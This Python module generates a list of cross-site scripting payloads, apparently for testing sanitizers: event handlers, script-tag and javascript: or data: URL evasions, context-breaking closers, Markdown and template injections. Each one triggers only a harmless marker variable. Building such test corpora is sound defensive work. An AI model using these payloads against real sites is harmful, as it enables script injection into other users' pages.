"""Texts that run a script where they are taken for markup, attributes, addresses or templates."""

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

CALL = "window.injected=1"
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
_ELEMENTS = (
    "<img src=x {0}>",
    "<svg {0}>",
    "<svg><animate attributeName=x dur=1s {0}></svg>",
    "<body {0}>",
    "<input autofocus {0}>",
    "<details open {0}>",
    "<video><source {0}></video>",
    "<iframe {0}></iframe>",
    "<math><mtext {0}></mtext></math>",
    "<x contenteditable tabindex=1 id=x style='animation:spin 1s' {0}>",
)
_SCRIPTS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script/x>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script src=data:text/javascript,{0}></script>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<object data='data:text/html,<script>parent.{0}</script>'></object>",
    "<embed src=javascript:{0}>",
    "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<form action=javascript:{0}><button autofocus>x</button></form>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<style>@import 'javascript:{0}';</style>",
    "<template shadowrootmode=open><script>{0}</script></template>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[><script>{0}</script>]]>",
    "<a href=javascript:{0}>x</a>",
    "<math href=javascript:{0}>x</math>",
)
_ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "\x01javascript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "javascript://%0a{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaW5qZWN0ZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:{0}",
    "//javascript:{0}",
    "/\\javascript:{0}",
    "../../javascript:{0}",
    "#source/x/javascript:{0}",
)
_CLOSERS = (
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "</p>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    "\\",
    '\\"',
    "\u2028",
)
_MARKDOWN = ("[x]({0})", "![x]({0})", "<{0}>", "[x]: {0}", "[1]({0})", "[1]: {0}\n\n[1]")
_TEMPLATES = (
    "${{{0}}}",
    "{{{{{0}}}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "<%={0}%>",
    "#{{{0}}}",
    "{{title}}{{text}}{{count}}{{seconds}}{0}",
    "%0a{0}",
    "\\u003cscript>{0}</script>",
)
_NAMES = (
    "__proto__",
    "constructor",
    "toString",
    "[1][2][999][0]",
    "[1",
    "]1[",
    "\u202e{0}\u202c",
    "\u200b{0}\u200d",
    "\ufeff{0}",
    "\ud7ff{0}",
    "𠮷" * 40,
    "a\u0301" * 40,
)


def _all() -> Iterator[str]:
    for element, handler in product(_ELEMENTS, _HANDLERS):
        yield element.format(f"{handler}={CALL}")
    for closer, element in product(_CLOSERS, _ELEMENTS[:3]):
        yield closer + element.format(f"onerror={CALL} onload={CALL}")
    for closer in _CLOSERS:
        yield f"{closer} autofocus onfocus={CALL} x={closer}"
    addresses = [address.format(CALL) for address in _ADDRESSES]
    yield from addresses
    for markdown, address in product(_MARKDOWN, addresses[:4]):
        yield markdown.format(address)
    scripts = [script.format(CALL) for script in _SCRIPTS]
    yield from scripts
    yield from map(quote, scripts[:8])
    yield from (script.replace("<", "&lt;").replace(">", "&gt;") for script in scripts[:8])
    yield from (script.replace("<", "＜").replace(">", "＞") for script in scripts[:4])
    yield from (template.format(CALL) for template in _TEMPLATES)
    yield from (name.format(CALL) for name in _NAMES)


PAYLOADS = tuple(dict.fromkeys(_all()))
